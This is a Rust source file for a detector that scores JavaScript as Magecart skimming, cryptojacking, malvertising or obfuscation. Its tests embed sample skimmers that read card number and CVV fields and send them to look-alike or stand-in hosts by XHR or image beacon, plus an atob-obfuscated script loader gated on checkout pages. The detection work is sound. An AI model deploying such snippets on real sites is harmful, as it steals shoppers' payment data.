//! The skimmer classifier: Magecart-style card theft, cryptojacking, malvertising and
//! obfuscation, scored from the normalised tree.
//!
//! The features are behaviour (from [`signals`]): a source of form data and a network sink in the same
//!   small function or statement (the skimmer's core), card-like field names, key or submit
//!   listeners, encoding before sending, checkout gating (a checkout word and a look at
//!   `location`), an exfiltration host that is new (not in the baseline, not the site) or a
//!   look-alike of the site's domain, decoders feeding `eval`/`Function`, obfuscator names,
//!   packed strings, miner vocabulary or WebAssembly plus workers plus sockets, forced
//!   navigation and pop-unders.
//!
//! `risk` is the learned model's probability ([`learned`]: a logistic regression over these
//! features and the code's node-type 3-grams, trained reproducibly on real npm libraries and
//! injected skimmer families; its parameters ship in the repository), and `malicious` is
//! `risk >= MALICIOUS_THRESHOLD`. The categories say what kind of threat it is: each has a
//! small hand-weighted logistic function of the semantic features below; a malicious
//! script is given those that reach 0.5, or else the strongest threat category, and
//! `obfuscated` is reported whenever its score reaches 0.5, malicious or not.
//!
//! With a baseline (the previous version of the same script), only the code the new version
//! adds is scored, and hosts the baseline already named are not new. Without one, a parsed
//! script is scored piece by piece ([`local_features`]) and its riskiest piece speaks for it:
//! a whole library does everything a skimmer does somewhere, but not in one small piece.

use serde::Serialize;

use super::diff::new_units;
use super::learned::{self, NGRAM_BUCKETS};
use super::normalize::Unit;
use super::signals::{self, *};
use super::{line_of, shape, Analysis, Lines, Parsed};

/// `risk` at or above which a script is `malicious`.
pub const MALICIOUS_THRESHOLD: f64 = 0.5;

/// A function or statement larger than this (normalised tokens) is not "one small piece of
/// code" any more: a source and a sink in it are not evidence of a flow between them. Library
/// modules that both read forms and send requests are far bigger; skimmers are small.
pub const FLOW_MAX_TOKENS: usize = 1500;

/// What the classifier is told besides the script.
#[derive(Debug, Clone, Copy, Default)]
pub struct Context<'a> {
    /// The site's own host (`www.britishairways.com`): hosts under the same registrable
    /// domain are first-party, similar ones are look-alikes.
    pub site: Option<&'a str>,
}

/// What `parapet scripts classify` prints for one file.
#[derive(Debug, Clone, Serialize)]
pub struct Verdict {
    /// The file as given.
    pub file: String,
    /// `risk >= MALICIOUS_THRESHOLD`.
    pub malicious: bool,
    /// 0..1, higher is worse.
    pub risk: f64,
    /// `magecart`, `cryptojacking`, `malvertising`, `obfuscated`: those scoring at least 0.5.
    pub categories: Vec<&'static str>,
    /// Why, in words a person can act on.
    pub reasons: Vec<String>,
    /// `whole` (the file) or `added` (what it adds to the baseline).
    pub scope: &'static str,
    /// sha256 of the file.
    pub sha256: String,
    /// Library and version line, when recognised.
    pub family: Option<super::Family>,
    /// Hosts the scored code sends to or names, that are not the site's.
    pub hosts: Vec<String>,
    /// Whether the file parsed (otherwise only lexical features were available).
    pub parsed: bool,
    /// The non-zero feature values the score was computed from, by name.
    pub features: std::collections::BTreeMap<&'static str, f64>,
}

/// The features of the scored code, before weighting.
#[derive(Debug, Clone, Default)]
pub struct Features {
    /// OR of the signals of the scored code.
    pub signals: Signals,
    /// A small function or statement with a form-data source and a network sink.
    pub flow: Option<Flow>,
    /// Hosts named in the scored code that are not first-party (and, with a baseline, new).
    pub new_hosts: Vec<String>,
    /// Hosts that look like the site's domain without being it: (host, site).
    pub lookalikes: Vec<(String, String)>,
    /// How much closer the code's node-type n-grams are to the malicious centroid than to
    /// the benign one (see [`super::shape`]), -1..1.
    pub shape: f64,
    /// The code did not parse; features are lexical.
    pub unparsed: bool,
    /// Normalised tokens scored (0 when unparsed).
    pub tokens: usize,
    /// The scored code's node-type 3-grams in [`NGRAM_BUCKETS`] buckets, unit length (empty
    /// when unparsed).
    pub ngrams: Vec<f64>,
}

/// Where a source meets a sink.
#[derive(Debug, Clone)]
pub struct Flow {
    /// 1-based line.
    pub line: usize,
    /// Its signals.
    pub signals: Signals,
}

/// Weights of one category: bias, then one weight per feature, in [`feature_vector`] order.
struct Weights {
    name: &'static str,
    bias: f64,
    w: [f64; N_FEATURES],
}

const N_FEATURES: usize = 19;

/// Feature order (documented in docs/scripts-analysis.md).
const FEATURE_NAMES: [&str; N_FEATURES] = [
    "flow",          // source and sink in one small unit
    "card_fields",   // card-like names
    "key_or_submit", // keystroke / submit listeners
    "encode",        // btoa, encodeURIComponent, JSON.stringify
    "new_host",      // a host that is not first-party (or not in the baseline)
    "lookalike",     // a host that imitates the site
    "checkout",      // checkout word + location read
    "eval_decoded",  // eval/Function with a decoder or packed string
    "obfuscated",    // obfuscator names, packed strings, decoders
    "miner",         // miner vocabulary
    "worker_ws",     // Worker + WebSocket (all the more with WebAssembly)
    "redirect",      // forced navigation
    "popup",         // window.open from a listener
    "visitor_check", // user agent / referrer checks
    "sink",          // any network sink
    "targeting",     // card fields, a look-alike host, or every field on a checkout page
    "harvest",       // reads whole forms or every field
    "hidden_flow",   // a flow whose code also decodes hidden text (a concealed destination)
    "shape",         // node-type 3-grams closer to the corpus's skimmers than to its libraries
];

const MAGECART: Weights = Weights {
    name: "magecart",
    bias: -6.0,
    w: [
        2.0, 0.3, 0.5, 0.5, 0.8, 2.0, 1.0, 1.0, 0.4, 0.0, 0.0, 0.0, 0.0, 0.0, 0.3, 2.5, 1.0, 2.5,
        1.0,
    ],
};
const CRYPTOJACKING: Weights = Weights {
    name: "cryptojacking",
    bias: -4.0,
    w: [
        0.0, 0.0, 0.0, 0.0, 0.4, 0.0, 0.0, 0.5, 0.3, 3.2, 2.5, 0.0, 0.0, 0.0, 0.3, 0.0, 0.0, 0.0,
        0.0,
    ],
};
const MALVERTISING: Weights = Weights {
    name: "malvertising",
    bias: -4.5,
    w: [
        0.0, 0.0, 0.0, 0.0, 0.8, 0.0, 0.0, 1.0, 0.5, 0.0, 0.0, 2.4, 2.0, 1.6, 0.0, 0.0, 0.0, 0.0,
        0.0,
    ],
};
const OBFUSCATED: Weights = Weights {
    name: "obfuscated",
    bias: -3.5,
    w: [
        0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 3.0, 2.2, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0,
        0.0,
    ],
};
const CATEGORIES: [&Weights; 4] = [&MAGECART, &CRYPTOJACKING, &MALVERTISING, &OBFUSCATED];

/// A shape margin of this much (cosine difference) counts as the whole `shape` feature.
const SHAPE_SCALE: f64 = 20.0;

/// Scores of the hand-weighted categories at or above which a category is named.
const CATEGORY_THRESHOLD: f64 = 0.5;

/// Scores a script, or with `baseline` the code it adds to the baseline.
pub fn classify(
    file: &str,
    a: &Analysis<'_>,
    baseline: Option<&Analysis<'_>>,
    ctx: Context<'_>,
) -> Verdict {
    let union = features(a, baseline, ctx);
    let model = learned::shipped();
    // With a baseline, the added code is scored as one; a whole parsed script is scored
    // piece by piece and the riskiest piece speaks for it.
    let by_pieces = match (baseline.map(|b| &b.outcome), &a.outcome) {
        (None, Ok(_)) => Some(local_features(a, ctx)),
        (Some(Ok(_)), Ok(_)) => baseline.map(|b| added_features(a, b, ctx)),
        _ => None,
    };
    let scored_by_pieces = by_pieces.is_some();
    let (features, piece) = match by_pieces {
        Some(pieces) => {
            let best = pieces
                .into_iter()
                .map(|(line, f)| (model.risk(&learned::vector(&f)), line, f))
                .max_by(|a, b| a.0.total_cmp(&b.0));
            match best {
                Some((_, line, f)) => (f, Some(line)),
                None => (Features::default(), None),
            }
        }
        _ => (union.clone(), None),
    };
    let hand = feature_vector(&features);
    let x = learned::vector(&features);
    let risk = if scored_by_pieces && piece.is_none() {
        0.0
    } else {
        model.risk(&x)
    };
    let risk = (risk * 1000.0).round() / 1000.0;
    let malicious = risk >= MALICIOUS_THRESHOLD;
    let scores: Vec<(&'static str, f64)> = CATEGORIES
        .iter()
        .map(|w| {
            let z = w.bias + w.w.iter().zip(&hand).map(|(w, x)| w * x).sum::<f64>();
            (w.name, sigmoid(z))
        })
        .collect();
    let obfuscated = {
        let u = feature_vector(&union);
        sigmoid(OBFUSCATED.bias + OBFUSCATED.w.iter().zip(&u).map(|(w, x)| w * x).sum::<f64>())
    };
    let mut categories: Vec<&'static str> = scores
        .iter()
        .filter(|(name, score)| {
            *score >= CATEGORY_THRESHOLD && malicious && *name != OBFUSCATED.name
        })
        .map(|(name, _)| *name)
        .collect();
    if obfuscated >= CATEGORY_THRESHOLD {
        categories.push(OBFUSCATED.name);
    }
    if malicious && !categories.iter().any(|c| *c != OBFUSCATED.name) {
        let strongest = scores
            .iter()
            .filter(|(name, _)| *name != OBFUSCATED.name)
            .max_by(|a, b| a.1.total_cmp(&b.1))
            .map_or(MAGECART.name, |(name, _)| *name);
        categories.insert(0, strongest);
    }
    let mut reasons = reasons(&features);
    if let (Some(what), true) = (learned::signature(&x), malicious) {
        reasons.insert(0, format!("matches {what}"));
    }
    if let (Some(line), true) = (piece, malicious) {
        reasons.insert(0, format!("the riskiest code starts at line {line}"));
    }
    if malicious && reasons.len() <= usize::from(piece.is_some()) {
        reasons.push(format!(
            "its code resembles the injected samples the model was trained on (strongest: {})",
            model.strongest(&x, 3).join(", ")
        ));
    }
    let mut named: std::collections::BTreeMap<&'static str, f64> = learned::SEMANTIC_NAMES
        .iter()
        .zip(x)
        .filter(|(_, v)| *v != 0.0)
        .map(|(k, v)| (*k, (v * 1000.0).round() / 1000.0))
        .collect();
    let shape = hand[N_FEATURES - 1];
    if shape != 0.0 {
        named.insert(FEATURE_NAMES[N_FEATURES - 1], shape);
    }
    Verdict {
        file: file.to_owned(),
        malicious,
        risk,
        categories,
        reasons,
        scope: if baseline.is_some() { "added" } else { "whole" },
        sha256: a.sha256.clone(),
        family: a.family.clone(),
        hosts: union.new_hosts.clone(),
        parsed: a.outcome.is_ok(),
        features: named,
    }
}

fn sigmoid(z: f64) -> f64 {
    1.0 / (1.0 + (-z).exp())
}

/// The skimmer-semantics features both models read, in [`FEATURE_NAMES`] order (all but
/// the last, `shape`); the learned model (`learned.rs`) appends its own after them.
pub(crate) const N_SHARED: usize = N_FEATURES - 1;

/// The shared features: flows, card fields, new and look-alike hosts, checkout gating,
/// obfuscation, mining, malvertising.
pub(crate) fn shared_features(f: &Features) -> [f64; N_SHARED] {
    let s = f.signals;
    let has = |bits: Signals| if s & bits != 0 { 1.0 } else { 0.0 };
    let all = |bits: Signals| if s & bits == bits { 1.0 } else { 0.0 };
    let b = |v: bool| if v { 1.0 } else { 0.0 };
    let decoded = s & (DECODE | HIGH_ENTROPY) != 0;
    let obfuscation = [HEX_NAMES, HIGH_ENTROPY, DECODE]
        .iter()
        .filter(|&&bit| s & bit != 0)
        .count() as f64
        / 2.0;
    [
        b(f.flow.is_some()),
        has(SRC_CARD),
        has(SRC_KEY | SRC_SUBMIT),
        has(ENCODE),
        // A host built at run time is no host the site or the baseline is known to use.
        b((!f.new_hosts.is_empty() || s & BUILT_URL != 0)
            && s & (SINKS | SINK_SRC_ATTR | REDIRECT | POPUP) != 0),
        b(!f.lookalikes.is_empty()),
        all(CHECKOUT_WORD | LOCATION),
        b(s & DYN_EVAL != 0 && decoded),
        obfuscation.min(1.0),
        has(MINER),
        has(WORKER) * has(SINK_WEBSOCKET) * (0.5 + 0.5 * has(WASM)),
        has(REDIRECT) * (0.5 + 0.5 * has(VISITOR_CHECK | TIMER)),
        all(POPUP | LISTENER),
        has(VISITOR_CHECK),
        has(SINKS),
        b(s & SRC_CARD != 0
            || !f.lookalikes.is_empty()
            || (s & (CHECKOUT_WORD | LOCATION) == CHECKOUT_WORD | LOCATION && s & SRC_FORM != 0)),
        has(SRC_FORM),
        b(f.flow.is_some() && s & DECODE != 0),
    ]
}

/// The feature values, in [`FEATURE_NAMES`] order.
fn feature_vector(f: &Features) -> [f64; N_FEATURES] {
    let mut x = [0.0; N_FEATURES];
    x[..N_SHARED].copy_from_slice(&shared_features(f));
    x[N_SHARED] = (f.shape * SHAPE_SCALE).clamp(0.0, 1.0);
    x
}

/// Computes the features of `a`, or of what it adds to `baseline`.
pub fn features(a: &Analysis<'_>, baseline: Option<&Analysis<'_>>, ctx: Context<'_>) -> Features {
    let site = site_domain(ctx);
    let baseline_hosts: Vec<String> = match baseline.map(|b| &b.outcome) {
        Some(Ok(p)) => p.hosts(),
        Some(Err(_)) => lexical_hosts(baseline.map_or("", |b| b.source)),
        None => Vec::new(),
    };
    match &a.outcome {
        Ok(p) => {
            let roots = scored_roots(p, baseline);
            features_of(p, &roots, a.source, site.as_deref(), &baseline_hosts)
        }
        Err(_) => {
            let mut f = Features {
                unparsed: true,
                signals: lexical_signals(a.source),
                ..Features::default()
            };
            add_hosts(
                &mut f,
                lexical_hosts(a.source),
                site.as_deref(),
                &baseline_hosts,
            );
            f
        }
    }
}

/// The features of each small piece of a whole script that could do harm, with the piece's
/// first line: the outermost units of at most [`LOCAL_MAX_TOKENS`] normalised tokens
/// (bigger units are split into the units inside them) whose code sends, injects,
/// evaluates, navigates, opens windows, mines or starts workers. Scoring pieces rather than
/// the union of a whole library's signals is what keeps a large library, which does all of
/// these somewhere, from looking like a skimmer, and lets a skimmer hidden inside one stand
/// out. Empty when the script did not parse.
pub fn local_features(a: &Analysis<'_>, ctx: Context<'_>) -> Vec<(usize, Features)> {
    let Ok(p) = &a.outcome else {
        return Vec::new();
    };
    let site = site_domain(ctx);
    let mut lines = Lines::new(a.source);
    pieces(p)
        .into_iter()
        .filter(|&g| p.norm.units[g].signals & HARMFUL != 0)
        .map(|g| {
            let line = lines.of(p.norm.units[g].span.start);
            (line, features_of(p, &[g], a.source, site.as_deref(), &[]))
        })
        .collect()
}

/// The features of each place where `a` adds code to `baseline` and that code could do harm
/// (as [`local_features`] says), with the place's first line. A place is a run of adjacent
/// wholly new units (siblings with no old unit between them) of at most
/// [`LOCAL_MAX_TOKENS`] tokens together; a bigger new unit is split into the units inside
/// it. An injection is written in one place; a new version's own changes are spread over
/// the library, and their union does everything a skimmer does somewhere, as a whole
/// library does. Hosts the baseline names are not new. Empty when a side did not parse.
pub fn added_features(
    a: &Analysis<'_>,
    baseline: &Analysis<'_>,
    ctx: Context<'_>,
) -> Vec<(usize, Features)> {
    let (Ok(p), Ok(old)) = (&a.outcome, &baseline.outcome) else {
        return Vec::new();
    };
    let site = site_domain(ctx);
    let baseline_hosts = old.hosts();
    let flags = new_units(p, old);
    let units = &p.norm.units;
    let children = Children::of(units);
    let mut places: Vec<Vec<usize>> = Vec::new();
    let mut lists: Vec<(&[usize], bool)> = vec![(&children.top, false)];
    for (i, flag) in flags.iter().enumerate().take(units.len()) {
        if !flag.reported {
            lists.push((children.get(i), false));
        }
    }
    while let Some((list, all_new)) = lists.pop() {
        let mut place: Vec<usize> = Vec::new();
        let mut tokens = 0;
        for &i in list {
            let size = units[i].size();
            if !(all_new || flags[i].reported) {
                places.extend((!place.is_empty()).then(|| std::mem::take(&mut place)));
                tokens = 0;
                continue;
            }
            if size > LOCAL_MAX_TOKENS && !children.get(i).is_empty() {
                places.extend((!place.is_empty()).then(|| std::mem::take(&mut place)));
                tokens = 0;
                lists.push((children.get(i), true));
                continue;
            }
            if tokens + size > LOCAL_MAX_TOKENS && !place.is_empty() {
                places.push(std::mem::take(&mut place));
                tokens = 0;
            }
            place.push(i);
            tokens += size;
        }
        places.extend((!place.is_empty()).then_some(place));
    }
    places.sort_unstable();
    let mut lines = Lines::new(a.source);
    places
        .into_iter()
        .filter(|place| place.iter().any(|&g| units[g].signals & HARMFUL != 0))
        .map(|place| {
            let line = lines.of(units[place[0]].span.start);
            (
                line,
                features_of(p, &place, a.source, site.as_deref(), &baseline_hosts),
            )
        })
        .collect()
}

/// Units bigger than this are split into the units inside them for [`local_features`].
pub const LOCAL_MAX_TOKENS: usize = FLOW_MAX_TOKENS;

/// Signals of code that can do harm on its own.
const HARMFUL: Signals = SINKS
    | SINK_SRC_ATTR
    | DYN_EVAL
    | MINER
    | REDIRECT
    | POPUP
    | WORKER
    | WASM
    | DECODED_NAME
    | CLIPBOARD
    // Code that wraps the page's requests, or asks the visitor's wallet to spend or sign,
    // needs no sink of its own.
    | HOOK
    | REQUEST_HOOK
    | WALLET_SPEND;

/// The outermost units of at most [`LOCAL_MAX_TOKENS`] tokens (and big units with none
/// inside), in order.
fn pieces(p: &Parsed) -> Vec<usize> {
    let units = &p.norm.units;
    let children = Children::of(units);
    let mut stack = children.top.clone();
    stack.reverse();
    let mut out = Vec::new();
    while let Some(i) = stack.pop() {
        let u = &units[i];
        if u.size() <= LOCAL_MAX_TOKENS || children.get(i).is_empty() {
            out.push(i);
        } else {
            stack.extend(children.get(i).iter().rev());
        }
    }
    out
}

/// The children of every unit, in order, in one list: a script has thousands of units, and
/// a list of its own for each was an eighth of the classifier's work.
struct Children {
    /// Where each unit's children start in `list`; one more entry, the end.
    start: Vec<usize>,
    list: Vec<usize>,
    /// The units without a parent.
    top: Vec<usize>,
}

impl Children {
    fn of(units: &[Unit]) -> Children {
        let parent = |u: &Unit| u.parent.filter(|&parent| parent < units.len());
        let mut start = vec![0; units.len() + 1];
        for parent in units.iter().filter_map(parent) {
            start[parent + 1] += 1;
        }
        for i in 0..units.len() {
            start[i + 1] += start[i];
        }
        let mut next = start.clone();
        let mut list = vec![0; start[units.len()]];
        let mut top = Vec::new();
        for (i, u) in units.iter().enumerate() {
            match parent(u) {
                Some(parent) => {
                    list[next[parent]] = i;
                    next[parent] += 1;
                }
                None => top.push(i),
            }
        }
        Children { start, list, top }
    }

    fn get(&self, unit: usize) -> &[usize] {
        &self.list[self.start[unit]..self.start[unit + 1]]
    }
}

/// The site's registrable domain; a URL works as well as a host.
fn site_domain(ctx: Context<'_>) -> Option<String> {
    ctx.site
        .map(|s| signals::url_host(s).unwrap_or_else(|| s.to_owned()))
        .map(|h| registrable(&h))
}

/// The features of the code under `roots` (disjoint subtrees).
fn features_of(
    p: &Parsed,
    roots: &[usize],
    source: &str,
    site: Option<&str>,
    baseline_hosts: &[String],
) -> Features {
    let mut f = Features {
        signals: roots.iter().fold(0, |s, &i| s | p.norm.units[i].signals),
        flow: find_flow(p, roots, source),
        ..Features::default()
    };
    let counts = shape::counts::<NGRAM_BUCKETS>(&p.norm, roots);
    let mut coarse = shape::fold::<NGRAM_BUCKETS, { shape::BUCKETS }>(&counts);
    shape::unit_length(&mut coarse);
    f.shape = shape::margin(shape::shipped(), &coarse);
    f.ngrams = counts.to_vec();
    shape::unit_length(&mut f.ngrams);
    f.tokens = roots.iter().map(|&i| p.norm.units[i].size()).sum();
    // Sorted and made unique as atoms, then copied (an atom is one text, interned once).
    let mut hosts: Vec<u32> = roots
        .iter()
        .flat_map(|&i| p.norm.units[i].hosts.iter().copied())
        .collect();
    hosts.sort_unstable_by(|&a, &b| p.norm.atom(a).cmp(p.norm.atom(b)));
    hosts.dedup();
    let hosts = hosts
        .into_iter()
        .map(|h| p.norm.atom(h).to_owned())
        .collect();
    add_hosts(&mut f, hosts, site, baseline_hosts);
    f
}

/// Records the hosts that are neither the site's nor the baseline's, and the look-alikes.
fn add_hosts(f: &mut Features, hosts: Vec<String>, site: Option<&str>, baseline: &[String]) {
    for h in hosts {
        let reg = registrable(&h);
        if site == Some(reg.as_str()) || baseline.contains(&h) {
            continue;
        }
        if let Some(site) = site {
            if looks_alike(&reg, site) {
                f.lookalikes.push((h.clone(), site.to_owned()));
            }
        }
        f.new_hosts.push(h);
    }
}

/// The units scored: every top-level unit, or the outermost units the new version adds.
fn scored_roots(p: &Parsed, baseline: Option<&Analysis<'_>>) -> Vec<usize> {
    match baseline.map(|b| &b.outcome) {
        Some(Ok(old)) => {
            let flags = new_units(p, old);
            (0..p.norm.units.len())
                .filter(|&i| flags[i].reported)
                .collect()
        }
        _ => (0..p.norm.units.len())
            .filter(|&i| p.norm.units[i].parent.is_none())
            .collect(),
    }
}

/// A small unit, under the roots (disjoint subtrees), that reads form data and sends
/// somewhere. Units are numbered in pre-order, so a unit's subtree is the run of units after
/// it whose tokens lie inside its own.
fn find_flow(p: &Parsed, roots: &[usize], source: &str) -> Option<Flow> {
    const DATA: Signals = SRC_FORM | SRC_VALUE;
    let units = &p.norm.units;
    roots
        .iter()
        .filter_map(|&r| units.get(r).map(|u| (r, u)))
        .flat_map(|(r, root)| {
            units[r..]
                .iter()
                .take_while(move |u| u.start >= root.start && u.end <= root.end)
                .filter(move |_| root.signals & DATA != 0 && root.signals & SINKS != 0)
        })
        .filter(|u| u.size() <= FLOW_MAX_TOKENS)
        .find(|u| u.signals & DATA != 0 && u.signals & SINKS != 0)
        .map(|u| Flow {
            line: line_of(source, u.span.start),
            signals: u.signals,
        })
}

/// The registrable domain, approximately: the last two labels, or three under a short
/// second-level label of a country code (`co.uk`, `com.au`).
pub fn registrable(host: &str) -> String {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let labels: Vec<&str> = host.split('.').collect();
    let n = labels.len();
    let take = if n >= 3 && labels[n - 1].len() == 2 && labels[n - 2].len() <= 3 {
        3
    } else {
        2
    };
    labels[n.saturating_sub(take)..].join(".")
}

/// Whether `host` (a registrable domain) imitates `site` (another one): the distinctive
/// label contains the site's, is contained in it as a subsequence (`baways` in
/// `britishairways`), or is within two edits of it.
pub fn looks_alike(host: &str, site: &str) -> bool {
    let a = host.split('.').next().unwrap_or(host);
    let b = site.split('.').next().unwrap_or(site);
    if a == b || a.len() < 4 || b.len() < 4 {
        return a == b && host != site;
    }
    a.contains(b) || b.contains(a) || is_subsequence(a, b) || edit_distance(a, b) <= 2
}

fn is_subsequence(short: &str, long: &str) -> bool {
    let mut it = long.chars();
    short.len() < long.len()
        && short.chars().all(|c| it.any(|d| d == c))
        && short.chars().next() == long.chars().next()
}

fn edit_distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut prev: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut cur = vec![i + 1; b.len() + 1];
        for (j, cb) in b.iter().enumerate() {
            cur[j + 1] = (prev[j] + usize::from(ca != *cb))
                .min(prev[j + 1] + 1)
                .min(cur[j] + 1);
        }
        prev = cur;
    }
    prev[b.len()]
}

/// Signals read from the words of a text that did not parse.
pub fn lexical_signals(source: &str) -> Signals {
    let mut s = 0;
    for word in source.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$')) {
        if !word.is_empty() {
            s |= signals::name_signals(word) | signals::string_signals(word);
        }
    }
    if source.matches("\\x").count() > 20 {
        s |= HEX_NAMES;
    }
    s
}

/// URL hosts in a text that did not parse.
pub fn lexical_hosts(source: &str) -> Vec<String> {
    let mut hosts: Vec<String> = source
        .match_indices("//")
        .filter_map(|(i, _)| {
            let start = source[..i]
                .rfind(['"', '\'', '`', '(', ' ', '='])
                .map_or(0, |p| p + 1);
            signals::url_host(&source[start..])
        })
        .collect();
    hosts.sort_unstable();
    hosts.dedup();
    hosts
}

/// Reasons a person can act on, strongest first.
fn reasons(f: &Features) -> Vec<String> {
    let mut r = Vec::new();
    if let Some(flow) = &f.flow {
        let sources = describe_bits(flow.signals & SOURCES);
        let sinks = describe_bits(flow.signals & SINKS);
        r.push(format!("code at line {} {sources} and {sinks}", flow.line));
    }
    for (host, site) in &f.lookalikes {
        r.push(format!("{host} looks like the site's domain {site}"));
    }
    if !f.new_hosts.is_empty() && f.signals & (SINKS | SINK_SRC_ATTR) != 0 {
        r.push(format!(
            "sends to hosts new to this script or site: {}",
            f.new_hosts.join(", ")
        ));
    }
    for bit in [
        SRC_CARD,
        SRC_KEY,
        SRC_SUBMIT,
        ENCODE,
        CHECKOUT_WORD,
        DYN_EVAL,
        DECODE,
        HIGH_ENTROPY,
        HEX_NAMES,
        MINER,
        WASM,
        WORKER,
        REDIRECT,
        POPUP,
        FOCUS_SHIFT,
        VISITOR_CHECK,
        STORAGE_WRITE,
        FAKE_FORM,
        DECODED_NAME,
        HIDDEN_TEXT,
        BUILT_URL,
        MARKUP_CODE,
        SINK_RTC,
        SINK_HINT,
        CLIPBOARD,
        SHELL_COMMAND,
        HOOK,
        WALLET_SPEND,
        TOKEN_CALL,
        WALLET_ADDRESS,
        REQUEST_HOOK,
    ] {
        if f.signals & bit != 0 {
            r.push(signals::describe(bit).to_owned());
        }
    }
    if f.unparsed {
        r.push("did not parse: scored from its words only".to_owned());
    }
    r
}

fn describe_bits(bits: Signals) -> String {
    let parts: Vec<&str> = (0..64)
        .map(|i| 1u64 << i)
        .filter(|b| bits & b != 0)
        .map(signals::describe)
        .collect();
    parts.join(", ")
}

#[cfg(test)]
mod tests {
    use super::super::analyse;
    use super::*;

    #[test]
    fn lookalikes() {
        assert!(looks_alike("baways.com", "britishairways.com"));
        assert!(looks_alike("neweggstats.com", "newegg.com"));
        assert!(looks_alike("examp1e.com", "example.com"));
        assert!(!looks_alike("jquery.com", "britishairways.com"));
        assert!(!looks_alike("googleapis.com", "newegg.com"));
        assert_eq!(registrable("www.britishairways.com"), "britishairways.com");
        assert_eq!(registrable("shop.example.co.uk"), "example.co.uk");
        let skim =
            analyse("fetch('https://baways.com/x', {body: document.forms[0].elements[0].value});");
        for site in [
            "www.britishairways.com",
            "https://www.britishairways.com/travel/",
        ] {
            let f = features(&skim, None, Context { site: Some(site) });
            assert_eq!(f.lookalikes.len(), 1, "{site}: {f:?}");
        }
    }

    #[test]
    fn a_skimmer_is_malicious_and_a_helper_is_not() {
        let skimmer = r#"
            window.onload = function () {
              document.getElementById("submitButton").addEventListener("mouseup", function () {
                var data = { number: document.getElementById("cardNumber").value,
                             cvv: document.getElementById("cvv").value };
                var x = new XMLHttpRequest();
                x.open("POST", "https://baways.com/gateway/app/dataprocessing/api/", false);
                x.setRequestHeader("Content-Type", "application/json");
                x.send(JSON.stringify(data));
              });
            };"#;
        let helper = "function add(a, b) { return a + b; } window.add = add;";
        let ctx = Context {
            site: Some("www.britishairways.com"),
        };
        let v = classify("s.js", &analyse(skimmer), None, ctx);
        assert!(v.malicious, "{v:#?}");
        assert!(v.categories.contains(&"magecart"));
        assert!(
            v.reasons.iter().any(|r| r.contains("baways.com")),
            "{:?}",
            v.reasons
        );
        let h = classify("h.js", &analyse(helper), None, ctx);
        assert!(!h.malicious && h.risk < 0.2, "{h:#?}");
    }

    /// Scored whole, a file is judged by its riskiest piece: the skimmer's line leads the
    /// reasons, code with nothing harmful in it scores 0, and the pieces are small units.
    #[test]
    fn whole_files_are_scored_by_their_riskiest_piece() {
        let mut library = String::from("var lib = (function () {\n");
        for i in 0..40 {
            library.push_str(&format!(
                "  function f{i}(a) {{ var out = []; for (var j = 0; j < a.length; j++) {{ out.push(a[j] * {i}); }} return out; }}\n"
            ));
        }
        library.push_str("  return { f0: f0 };\n})();\n");
        let ctx = Context {
            site: Some("www.shop.example"),
        };
        let clean = classify("lib.js", &analyse(&library), None, ctx);
        assert_eq!(clean.risk, 0.0, "{clean:#?}");
        let skimmer = "document.addEventListener('submit', function (e) {\n  var d = btoa(JSON.stringify({ n: document.getElementById('cardnumber').value, c: document.getElementById('cvv').value }));\n  new Image().src = 'https://shop-cdn-metrics.invalid/p.gif?d=' + d;\n});\n";
        let injected = format!("{library}{skimmer}");
        let line = library.lines().count() + 1;
        let a = analyse(&injected);
        let v = classify("lib.js", &a, None, ctx);
        assert!(v.malicious, "{v:#?}");
        assert_eq!(
            v.reasons[0],
            format!("the riskiest code starts at line {line}")
        );
        let pieces = local_features(&a, ctx);
        assert!(!pieces.is_empty());
        assert!(pieces.iter().all(|(_, f)| f.tokens <= LOCAL_MAX_TOKENS));
    }

    /// With a baseline, added code is scored place by place: changes spread over a library
    /// (a decoder in one function, a value read in another, a request in a third) do not
    /// add up to a skimmer, while a skimmer added in one place is caught and named.
    #[test]
    fn added_code_is_scored_place_by_place() {
        let mut old = String::from("var lib = (function () {\n");
        for i in 0..12 {
            old.push_str(&format!(
                "  function f{i}(a) {{ var out = []; for (var j = 0; j < a.length; j++) {{ out.push(a[j] + {i}); }} return out; }}\n"
            ));
        }
        let names: Vec<String> = (0..12).map(|i| format!("f{i}: f{i}")).collect();
        old.push_str(&format!("  return {{ {} }};\n}})();\n", names.join(", ")));
        let spread = old
            .replace(
                "function f2(a) {",
                "function f2(a) { var t = String.fromCharCode(a[0]);",
            )
            .replace(
                "function f6(a) {",
                "function f6(a) { var v = document.getElementById('q').value; a.push(encodeURIComponent(v));",
            )
            .replace(
                "function f10(a) {",
                "function f10(a) { var x = new XMLHttpRequest(); x.open('GET', '/api/items'); x.send();",
            );
        let ctx = Context {
            site: Some("www.shop.example"),
        };
        let (base, changed) = (analyse(&old), analyse(&spread));
        let places = added_features(&changed, &base, ctx);
        assert!(!places.is_empty());
        assert!(places.iter().all(|(_, f)| f.flow.is_none()), "{places:#?}");
        let v = classify("new.js", &changed, Some(&base), ctx);
        assert!(!v.malicious, "{v:#?}");
        let skimmer = "document.addEventListener('submit', function (e) {\n  var f = e.target, d = {};\n  for (var i = 0; i < f.elements.length; i++) d[f.elements[i].name] = f.elements[i].value;\n  new Image().src = 'https://pixel-stats.invalid/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify(d)));\n});\n";
        let injected = old.replace("  return { f0", &format!("{skimmer}  return {{ f0"));
        let v = classify("new.js", &analyse(&injected), Some(&base), ctx);
        assert!(v.malicious, "{v:#?}");
        assert!(v.reasons[0].starts_with("the riskiest code starts at line"));
        assert!(
            v.reasons[1].starts_with("matches an image request"),
            "{:?}",
            v.reasons
        );
    }

    /// Loader stubs that decode even the method they call, and destinations whose host is
    /// built at run time, still show the sink, the source attribute and a new host.
    #[test]
    fn concealed_loaders_and_destinations_are_seen() {
        let stub = r#"(function (p) {
              if (!/checkout/.test(document.location.pathname)) return;
              var el = document[atob("Y3JlYXRlRWxlbWVudA==")](atob(p[0]));
              el.setAttribute("src", atob(p[1]));
              document.body.appendChild(el);
            })(["c2NyaXB0", "eA=="]);"#;
        let s = features(&analyse(stub), None, Context::default()).signals;
        for bit in [
